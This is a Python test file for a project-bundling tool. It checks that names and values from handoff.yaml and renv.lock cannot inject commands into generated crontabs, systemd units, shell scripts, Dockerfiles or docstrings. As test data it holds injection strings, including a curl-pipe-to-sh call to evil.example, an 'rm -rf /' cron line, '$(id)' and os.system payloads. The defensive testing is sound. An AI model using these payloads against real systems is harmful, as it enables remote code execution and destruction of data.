"""Text from handoff.yaml never becomes a command in a generated script, crontab or unit (issue 11, item 6)."""
from __future__ import annotations

import ast
import shlex
import subprocess

import pytest

from handoff_assistant.bundle import BundleError, BundleOptions
from handoff_assistant.bundle.entry_points import BundleEntryPoint
from handoff_assistant.bundle.harness import harness_files, script_files
from handoff_assistant.bundle.schedule import schedule_files
from handoff_assistant.bundle.templates import comment_text, cron_quote, systemd_quote
from handoff_assistant.bundle.writer import write_bundle
from handoff_assistant.readiness.model import EntryPoint
from handoff_assistant.readiness.project_file import ProjectFileError, parse_project_file
from tests.bundle.helpers import inputs_for, project_file

HOSTILE_NAMES = ["score; curl https://evil.example/x|sh #", "score\n* * * * * root rm -rf / #", "a b", "$(id)",
                 "`id`", "x'y", "50%"]


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_handoff_yaml_refuses_an_entry_point_name_that_is_not_a_plain_word(name):
    """Failed before: such names were accepted and written raw into crontab, ExecStart= and run.sh."""
    text = f"entry_points:\n  - name: {name!r}\n    command: python -m x\n".replace("'", '"') if "'" not in name \
        else f"entry_points:\n  - name: \"{name}\"\n    command: python -m x\n"
    with pytest.raises(ProjectFileError) as error:
        parse_project_file(text)
    message = str(error.value)
    assert message.startswith("handoff.yaml line 2: entry_points[0].name: ") and "\n" not in message
    assert "is not a usable entry-point name: use only letters, digits, '_', '.' and '-'" in message


@pytest.mark.parametrize("name", ["score", "score-weekly", "Score_2.v1"])
def test_plain_entry_point_names_load(name):
    assert parse_project_file(f"entry_points:\n  - name: {name}\n    command: c\n").entry_points[0].name == name


def test_a_schedule_spread_over_lines_is_refused():
    with pytest.raises(ProjectFileError, match="entry_points\\[0\\].schedule: .* is not a cron expression"):
        parse_project_file('entry_points:\n  - name: s\n    command: c\n    schedule: "0 6 *\\n* 1"\n')


def test_a_bundle_of_a_project_built_in_memory_refuses_a_hostile_name(project, tmp_path, pip_env):
    entry = EntryPoint("score; curl https://evil.example/x|sh #", "python -m tinyscore.score", schedule="0 6 * * 1")
    with pytest.raises(BundleError, match="is not a usable entry-point name"):
        write_bundle(inputs_for(project, project=project_file(entry_points=(entry,))),
                     BundleOptions(tmp_path / "out", pip_env=pip_env))
    assert not [p for p in (tmp_path / "out").iterdir() if not p.name.startswith(".handoff-partial-")]


@pytest.mark.parametrize("name", [n for n in HOSTILE_NAMES if "\n" not in n])
def test_every_generated_schedule_line_quotes_its_arguments(name):
    entry = BundleEntryPoint(name, "score", "python -m x", schedule="0 6 * * 1", on_calendar="Mon *-*-* 06:00:00")
    files = schedule_files([entry], "churn")
    cron_line = next(line for line in files["schedule/crontab"].splitlines() if line.startswith("0 6 * * 1 "))
    assert [line for line in files["schedule/crontab"].splitlines() if line and not line.startswith("#")] == [
        "HANDOFF_HOME=/opt/churn", cron_line]
    command = cron_line.removeprefix("0 6 * * 1 ").replace("\\%", "%")
    assert shlex.split(command) == ["cd", "$HANDOFF_HOME", "&&", "./scripts/run.sh", name, ">>", "logs/score.log",
                                    "2>&1"]
    service = files["schedule/churn-score.service"]
    exec_lines = [line for line in service.splitlines() if line.startswith("ExecStart=")]
    assert exec_lines == ["""ExecStart=/bin/sh -c 'exec "$$HANDOFF_HOME/scripts/run.sh" "$$0"' """
                          + systemd_quote(name)]
    assert all(not line.strip() or line.startswith(("#", "[")) or "=" in line for line in service.splitlines())


@pytest.mark.parametrize("value, quoted", [
    ("score", "score"),
    ("a b", '"a b"'),
    ('say "hi"', '"say \\"hi\\""'),
    ("$(id)", '"$$(id)"'),
    ("50%", '"50%%"'),
    ("x\ny", '"x\\x0ay"'),
])
def test_systemd_quoting_follows_the_documented_syntax(value, quoted):
    """systemd.service(5), "Command lines": double quotes group, \\ escapes, $$ and %% are literal $ and %."""
    assert systemd_quote(value) == quoted


def test_cron_quoting_escapes_the_percent_that_would_end_the_command():
    assert cron_quote("50%") == "50\\%" and cron_quote("a b%") == "'a b\\%'"
    with pytest.raises(ValueError, match="cannot be written on one crontab line"):
        cron_quote("score\n* * * * * rm -rf /")


def test_a_project_name_cannot_break_out_of_a_comment_or_a_docstring(tmp_path):
    """Failed before: the project name went raw into '#' comments of setup.sh/run.sh and the docstrings of
    handoff_run.py and the harness, so a newline or '\"\"\"' in it started code."""
    name = 'Churn\ntouch /tmp/pwned-by-name\n"""\nimport os; os.system("id")\n"""\\'
    files = {**script_files(name, "3.11", True, []), **harness_files(name)}
    for path, text in files.items():
        assert "\ntouch /tmp/pwned-by-name" not in text and "\nimport os; os.system" not in text, path
        if path.endswith(".py"):  # parses, and the name stayed text: no call to os.system anywhere
            assert not [node for node in ast.walk(ast.parse(text)) if isinstance(node, ast.Attribute)
                        and node.attr == "system"], path
    assert comment_text(name) in ast.get_docstring(ast.parse(files["scripts/handoff_run.py"])).splitlines()[0]
    for script in ("scripts/setup.sh", "scripts/run.sh", "scripts/check.sh"):
        target = tmp_path / script.replace("/", "_")
        target.write_text(files[script])
        assert subprocess.run(["sh", "-n", str(target)], capture_output=True).returncode == 0, script


def test_comment_text_is_one_inert_line():
    assert comment_text('a\r\nb\u2028c "d" \\e') == "a b c 'd' /e"


def test_the_container_recipe_takes_no_line_from_a_project_name_a_package_or_an_r_version(tmp_path):
    """Failed before: the project name went raw into the '#' comments of the Dockerfile and .dockerignore,
    handoff.yaml's system_packages into `apt-get install`, and renv.lock's R version into setup.sh's echo
    and the FROM line, so each could add a RUN line or a shell command."""
    from handoff_assistant.bundle.container import ContainerFacts, container_files
    from handoff_assistant.bundle.r_env import REnvironment, r_environment
    from handoff_assistant.bundle.system_packages import system_packages

    name = "Churn\nRUN touch /pwned-by-name"
    facts = ContainerFacts("churn", "churn", "/opt/churn", "3.11.7", True, REnvironment(),
                           system_packages([], []), True, False)
    for path, text in container_files(facts, [], name).items():
        assert "\nRUN touch /pwned-by-name" not in text, path

    with pytest.raises(ProjectFileError, match=r"system_packages\[1\]: must be a package name .* not "
                                               r"'libpq-dev; curl http://x \| sh'"):
        parse_project_file("name: x\nsystem_packages:\n  - gdal-bin\n  - 'libpq-dev; curl http://x | sh'\n")
    assert parse_project_file("name: x\nsystem_packages: [libgdal-dev, g++, python3.11-venv]\n").system_packages \
        == ("libgdal-dev", "g++", "python3.11-venv")

    (tmp_path / "renv.lock").write_text('{"R": {"Version": "4.3$(touch /tmp/pwned-by-r)"}, "Packages": {}}')
    assert r_environment(tmp_path, ("renv.lock",), ()).version == ""
    (tmp_path / "renv.lock").write_text('{"R": {"Version": "4.3.1"}, "Packages": {}}')
    assert r_environment(tmp_path, ("renv.lock",), ()).version == "4.3.1"
